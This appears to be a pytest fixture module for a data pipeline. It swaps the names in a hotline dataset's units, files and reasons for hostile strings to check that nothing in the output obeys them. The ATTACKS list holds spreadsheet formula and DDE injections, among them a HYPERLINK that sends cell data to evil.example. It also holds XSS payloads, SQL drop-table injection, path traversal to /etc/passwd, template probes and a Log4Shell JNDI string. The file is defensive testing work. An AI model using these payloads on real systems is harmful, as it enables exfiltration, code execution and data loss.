"""A district whose every name attacks: nothing that a run writes or prints obeys one of them.

The sample's quarter with its units, categories, files and reasons named by somebody who means harm.
Everything still adds up, so it is published, and all that was written is searched.
"""

import csv
import io
import json
import os
import re
import shutil
import zipfile

import duckdb
import pytest
from conftest import EXPORTS, PROJECT, hotline
from docx import Document
from lxml import etree, html
from python_calamine import CalamineWorkbook
from rewrite import rows_of, xlsx

SEEDS = PROJECT / "dbt_project" / "seeds"
LOUD = "attacked"
"""Every script among the attacks would set the page's title to this."""
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"局")',
    "=cmd|' /C calc'!A0",
    "+1+1|局",
    "-2+3|局",
    "@SUM(A1)局",
    "＝1+1局",
    f"<script>document.title='{LOUD}'</script>局",
    f"<img src=x onerror=\"document.title='{LOUD}'\">",
    f"\"><svg/onload=document.title='{LOUD}'>",
    f"javascript:document.title='{LOUD}'",
    "</title></style><!--局",
    "'); drop table marts.hotline_unit_quarter; --",
    '"]; drop table x; --',
    "../../../../tmp/hotline-escaped",
    "..\\..\\局",
    "/etc/passwd",
    "[bold red]局[/] [/]",
    "\\[/]局",
    "[局](http://evil.example) | **x** ![](http://evil.example/p.png)",
    "{{ config.secret }}{% raw %}局",
    "{0.__class__}%s%n局",
    "${jndi:ldap://evil.example}局",
    "${{title}}局",
    "&lt;b&gt;&#60;局",
    "_x001B_[31m局",
]
REASON = "=1+1 <script>document.title='attacked'</script>\n[fake] \x1b[31m\u202e更正 | **粗**"
FILES = ["=1+1|`a`.csv", "<b onload=alert(1)>\\[red]'; drop--.csv", "\x1b[31m\u202e换.xlsx"]


def renamed():
    """Each attack in the place of a unit's name, which keeps its place in every total."""
    with (SEEDS / "unit.csv").open(encoding="utf-8", newline="") as file:
        names = list(dict.fromkeys(row["unit_name"] for row in csv.DictReader(file)))
    with (SEEDS / "unit_alias.csv").open(encoding="utf-8", newline="") as file:
        aliases = list(csv.DictReader(file))
    shared = {"区公安分局"}
    free = [name for name in names if name not in shared]
    assert len(free) >= len(ATTACKS)
    to = dict(zip(free, ATTACKS, strict=False))
    with (SEEDS / "unit.csv").open(encoding="utf-8", newline="") as file:
        codes = {row["unit_code"]: row["unit_name"] for row in csv.DictReader(file)}
    # A unit's other written names go the same way, made different by a mark.
    for alias in aliases:
        name = codes.get(alias["unit_code"], "")
        if name in to and alias["alias_name"] not in to:
            to[alias["alias_name"]] = f"{to[name]}{len(to)}"
    return to


def replace(path, to, target, encoding="utf-8", written=None):
    with path.open(encoding=encoding, newline="") as file:
        rows = list(csv.reader(file))
    blanks = " \u3000\t\u00a0"
    rows = [[to.get(cell.strip(blanks), cell) for cell in row] for row in rows]
    with target.open("w", encoding=written or encoding, newline="") as file:
        csv.writer(file).writerows(rows)


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """The site, its home after two runs (the second restates, with a hostile reason), the output."""
    root = tmp_path_factory.mktemp("hostile")
    site, to = root / "site", renamed()
    for folder in ("contracts", "layouts", "bulletin", "2022Q2"):
        shutil.copytree(
            EXPORTS / folder, site / "exports" / folder if folder == "2022Q2" else site / folder
        )
    (site / "seeds").mkdir()
    for seed in SEEDS.glob("*.csv"):
        replace(seed, to, site / "seeds" / seed.name)
    quarter = site / "exports" / "2022Q2"
    for path in quarter.iterdir():
        path.unlink()
    source = EXPORTS / "2022Q2"
    replace(source / "ticket.csv", to, quarter / FILES[0], "utf-8-sig")
    replace(source / "suggestion.csv", to, quarter / FILES[1], "gb18030", "utf-8")
    rows = [[to.get(cell.strip(), cell) for cell in row] for row in rows_of("mailbox")]
    (quarter / FILES[2]).write_bytes(xlsx({"=1+1": rows}))
    replace(source / "bulletin.csv", to, quarter / "bulletin.csv", "utf-8-sig")
    (quarter / "notice.md").write_text(f"示例 {ATTACKS[6]} \x1b[31m\u202e {ATTACKS[18]}", "utf-8")
    return site, root / "home", to
